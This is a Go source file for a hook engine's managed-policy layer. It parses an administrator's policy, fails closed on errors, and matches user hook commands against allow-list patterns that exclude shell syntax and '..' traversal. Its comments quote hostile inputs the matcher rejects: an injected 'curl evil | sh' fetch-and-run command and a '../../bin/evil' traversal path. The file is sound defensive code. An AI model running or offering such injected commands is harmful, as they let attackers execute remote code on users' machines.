package engine

import (
	"context"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"

	"github.com/hermes-hooks/hermes/decisionlog"
	"github.com/hermes-hooks/hermes/hookspec"
	"github.com/hermes-hooks/hermes/internal/bundlefeed"
	"github.com/hermes-hooks/hermes/internal/homedir"
	"github.com/hermes-hooks/hermes/internal/manifest"
	"github.com/hermes-hooks/hermes/internal/netguard"
	"github.com/hermes-hooks/hermes/shell"
	"gopkg.in/yaml.v3"
)

// Layers of a hook: where it was declared.
const (
	LayerManaged = "managed" // the system-wide managed home: loads first, cannot be disabled or refused by the user's home
	LayerUser    = "user"    // the user's home
)

// systemManagedHome is homedir.DefaultManaged; tests point it elsewhere.
var systemManagedHome = homedir.DefaultManaged

// relocated warns when the managed home in force is not the system's while the system's
// has a config.yaml: whoever set HERMES_MANAGED_HOME (or Options.ManagedHome) for this
// process set its guards aside, and the log says so.
func relocated(home string) []hookspec.Warning {
	sys := filepath.Join(systemManagedHome, "config.yaml")
	if filepath.Clean(home) == filepath.Clean(systemManagedHome) {
		return nil
	}
	if _, err := os.Stat(sys); err != nil {
		return nil
	}
	return []hookspec.Warning{{File: sys, Msg: "this managed home is not used: the managed home is " + home +
		" ($HERMES_MANAGED_HOME or the host's setting), so the hooks and policy of " + sys + " do not apply"}}
}

// Policy is the policy: section of the managed home's config.yaml: what the user's home may
// declare. The zero value restricts nothing.
type Policy struct {
	File string `json:"file,omitempty"` // the managed config.yaml it was read from; "" = no managed home
	// ManagedHooksOnly refuses every hook of the user's home: its shell hooks, HTTP hooks,
	// plugins, gateway hooks and webhooks.
	ManagedHooksOnly bool `json:"managed_hooks_only"`
	// AllowedHTTPURLs, when not nil, are the only URLs (netguard.MatchURL patterns) a type: http
	// hook or webhook of the user's home may target; a URL matching one may also reach
	// private addresses. nil = any URL, private addresses refused unless the entry allows them.
	AllowedHTTPURLs []string `json:"allowed_http_urls"`
	// AllowedCommands, when not nil, are the only command lines a command hook of the user's
	// home may run: patterns whose `*` matches any run of characters but shell syntax and a
	// ".." path element (matchCommand). nil = any command.
	AllowedCommands []string `json:"allowed_commands"`
}

// refuses says why the policy refuses a hook of the user's home ("" = it does not).
func (p *Policy) refuses(typ, target string) string {
	switch {
	case p == nil || p.File == "":
		return ""
	case p.ManagedHooksOnly:
		return "refused by the managed policy (" + p.File + " sets managed_hooks_only: true): only hooks of the managed home run"
	case typ == shell.TypeHTTP && p.AllowedHTTPURLs != nil && !netguard.MatchAny(p.AllowedHTTPURLs, target):
		return "refused by the managed policy (" + p.File + "): the URL matches no pattern of allowed_http_urls (" + strings.Join(p.AllowedHTTPURLs, ", ") + ")"
	case typ != shell.TypeHTTP && p.AllowedCommands != nil && !slices.ContainsFunc(p.AllowedCommands, func(pat string) bool { return matchCommand(pat, target) }):
		return "refused by the managed policy (" + p.File + "): the command matches no pattern of allowed_commands (" + strings.Join(p.AllowedCommands, ", ") + ")"
	}
	return ""
}

// managed is what the managed home declares.
type managed struct {
	home   string
	cfg    *config // nil when the managed home has no config.yaml
	policy *Policy
	declog *decisionlog.Options // decision_log:; nil for none
	feed   *bundlefeed.Config   // its bundles:, nil when none
	bundle *activeBundle        // the feed's active bundle, part of this layer
}

// loadManaged reads the managed home's config.yaml. A missing home or file is no managed
// layer. A file that exists but cannot be read or parsed, or whose policy: is invalid, is an
// error: the engine must not run without the guards and limits an administrator set, so it
// does not start (and a reload keeps the hooks and policy that run).
//
// With bundles: (or opts.Bundles), the feed's active bundle is part of the layer
// (opts.bundleDir, when not "", in place of the active one): a bundle that cannot be
// loaded is an error too.
func loadManaged(home string, opts Options, getenv func(string) string) (*managed, []hookspec.Warning, error) {
	m := &managed{home: home, policy: &Policy{}}
	relocatedWarns := relocated(home)
	file := filepath.Join(home, "config.yaml")
	if _, err := os.Stat(file); errors.Is(err, fs.ErrNotExist) {
		if opts.Bundles == nil {
			return m, relocatedWarns, nil
		}
		w, err := m.loadBundle(opts)
		if err != nil {
			return nil, nil, fmt.Errorf("managed home: %w (hooks do not run until it is fixed: the bundle's guards would be missing)", err)
		}
		return m, append(relocatedWarns, w...), nil
	}
	cfg, warns, err := loadConfig(home)
	var w []hookspec.Warning
	if err != nil {
		return nil, nil, fmt.Errorf("managed home: %w (hooks do not run until it is fixed: the managed guards would be missing)", err)
	}
	warns = append(relocatedWarns, warns...)
	m.cfg = cfg
	m.policy, err = parsePolicy(file, cfg.policy)
	if err != nil {
		return nil, nil, fmt.Errorf("managed home: %w (hooks do not run until it is fixed: an unreadable policy is not an empty one)", err)
	}
	m.declog, w, err = parseDecisionLog(file, cfg.declog, getenv)
	if err != nil {
		return nil, nil, fmt.Errorf("managed home: %w (hooks do not run until it is fixed: the decision log the operator asked for would be missing)", err)
	}
	warns = append(warns, w...)
	w, err = m.loadBundle(opts)
	if err != nil {
		return nil, nil, fmt.Errorf("managed home: %w (hooks do not run until it is fixed: the bundle's guards would be missing)", err)
	}
	return m, append(warns, w...), nil
}

// parsePolicy reads policy: {managed_hooks_only, allowed_http_urls, allowed_commands}.
// Any mistake is an error, never a looser policy.
func parsePolicy(file string, n *yaml.Node) (*Policy, error) {
	p := &Policy{File: file}
	if n == nil || n.Kind == yaml.ScalarNode && n.Tag == "!!null" {
		return p, nil
	}
	if n.Kind != yaml.MappingNode {
		return nil, manifest.Errorf(file, n, "policy must be a mapping (e.g. policy: {managed_hooks_only: true})")
	}
	keys := []string{"managed_hooks_only", "allowed_http_urls", "allowed_commands"}
	for i := 0; i+1 < len(n.Content); i += 2 {
		k := n.Content[i]
		v := manifest.Resolve(n.Content[i+1])
		var err error
		switch k.Value {
		case "managed_hooks_only":
			p.ManagedHooksOnly, err = manifest.Bool(file, v, "policy.managed_hooks_only")
		case "allowed_http_urls":
			p.AllowedHTTPURLs, err = patternList(file, v, "policy.allowed_http_urls")
		case "allowed_commands":
			p.AllowedCommands, err = patternList(file, v, "policy.allowed_commands")
		default:
			err = manifest.Errorf(file, k, "unknown policy key %q (known: %s)%s", k.Value, strings.Join(keys, ", "), didYouMean(k.Value, keys))
		}
		if err != nil {
			return nil, err
		}
	}
	return p, nil
}

// patternList is a list of strings; an empty list is kept as empty (it allows nothing).
func patternList(file string, n *yaml.Node, key string) ([]string, error) {
	list, err := manifest.StringList(file, n, key)
	if err == nil && list == nil {
		list = []string{}
	}
	return list, err
}

// allowedURLs are the patterns whose URLs may reach private addresses; nil for none.
func (p *Policy) allowedURLs() []string {
	if p == nil {
		return nil
	}
	return p.AllowedHTTPURLs
}

// Policy returns the managed policy in force (File is "" when there is no managed home).
func (e *Engine) Policy() Policy {
	if p := e.set.Load().policy; p != nil {
		return *p
	}
	return Policy{}
}

// loadManagedPlugins loads the plugins of the managed home: no disabled list but its own
// config.yaml's applies. A managed plugin that fails to load, with no previous version
// running, is an error, as an unreadable managed config.yaml is: the engine does not run
// without a guard the administrator put there (and a reload keeps the hooks that run). The
// plugins that did load are returned with it, for the failed load to close.
func (e *Engine) loadManagedPlugins(ctx context.Context, m *managed, prev *hookSet) ([]*plugin, []*PluginInfo, []hookspec.Warning, error) {
	l := pluginLayer{home: m.home, layer: LayerManaged}
	if m.cfg != nil {
		l.disabled = m.cfg.disabledPlugins
	}
	loaded, infos, warns, err := e.loadPlugins(ctx, l, prev)
	if err != nil {
		return nil, nil, nil, fmt.Errorf("managed home: %w", err)
	}
	if m.bundle != nil {
		more, moreInfos, w, err := e.loadBundlePlugins(ctx, m.bundle, prev, infos)
		loaded, infos, warns = append(loaded, more...), append(infos, moreInfos...), append(warns, w...)
		if err != nil {
			return loaded, nil, nil, fmt.Errorf("managed home: bundle: %w", err)
		}
	}
	for _, info := range infos {
		if info.Status == "error" {
			return loaded, nil, nil, fmt.Errorf("managed home: the plugin in %s failed to load (%s); hooks do not run until it is fixed: the managed guard would be missing", info.Dir, info.Error)
		}
	}
	return loaded, infos, warns, nil
}

// loadUserPlugins loads the plugins of the user's home, unless the policy allows only
// managed hooks: then none is loaded, and one warning says why. None may have the name of
// a managed plugin (of managed).
func (e *Engine) loadUserPlugins(ctx context.Context, cfg *config, prev *hookSet, p *Policy, managed []*PluginInfo) ([]*plugin, []*PluginInfo, []hookspec.Warning, error) {
	if p == nil || !p.ManagedHooksOnly {
		l := pluginLayer{home: e.home, layer: LayerUser, disabled: cfg.disabledPlugins, reserved: map[string]string{}, policy: p}
		l.consent, _ = e.newShellLoad(cfg, LayerUser, p, nil) // an invalid hooks_consent: is reported with the shell hooks
		for _, m := range managed {
			l.reserved[m.Name] = m.Dir
		}
		if !e.opts.DryRun { // a dry run leaves nothing in the home
			l.regs = newRegCache(e.home, e.opts.Fires, e.opts.HostFuncs)
		}
		loaded, infos, warns, err := e.loadPlugins(ctx, l, prev)
		if err == nil && l.regs != nil {
			if err := l.regs.save(); err != nil {
				e.logger.Debug("the plugins' registrations could not be kept for the next load", "error", err)
			}
		}
		return loaded, infos, warns, err
	}
	_, w := refusedDir(e.home, "plugins", "plugins", p)
	return nil, nil, w, nil
}

// refusedDir reports whether the policy in force refuses the hook directories of the user's
// home under sub (managed_hooks_only), with a warning when there are some.
func (e *Engine) refusedDir(sub, what string) (bool, []hookspec.Warning) {
	p := e.Policy()
	return refusedDir(e.home, sub, what, &p)
}

func refusedDir(home, sub, what string, p *Policy) (bool, []hookspec.Warning) {
	if !p.ManagedHooksOnly {
		return false, nil
	}
	dir := filepath.Join(home, sub)
	if entries, err := os.ReadDir(dir); err != nil || len(entries) == 0 {
		return true, nil
	}
	return true, []hookspec.Warning{{File: dir, Msg: what + " not loaded: " + p.refuses("", "")}}
}

// commandWild is what a `*` of allowed_commands may stand for: no shell syntax (a command
// line of dialect: claude is run by /bin/sh, so "~/hooks/*" must not admit
// "~/hooks/x.sh; curl evil | sh") and no line break.
const commandWild = "[^;&|`$<>(){}\\r\\n]*"

// matchCommand reports whether a command line matches an allowed_commands pattern: `*` is
// any run of characters other than shell syntax, and what a `*` stands for may not climb
// out of a directory with a ".." path element ("~/hooks/*" does not admit
// "~/hooks/../../bin/evil").
func matchCommand(pattern, cmd string) bool {
	parts := strings.Split(pattern, "*")
	for i, p := range parts {
		parts[i] = regexp.QuoteMeta(p)
	}
	re, err := regexp.Compile("^" + strings.Join(parts, "("+commandWild+")") + "$")
	if err != nil {
		return false
	}
	m := re.FindStringSubmatch(cmd)
	if m == nil {
		return false
	}
	for _, g := range m[1:] {
		if g == ".." || strings.HasPrefix(g, "../") || strings.HasSuffix(g, "/..") || strings.Contains(g, "/../") {
			return false
		}
	}
	return true
}
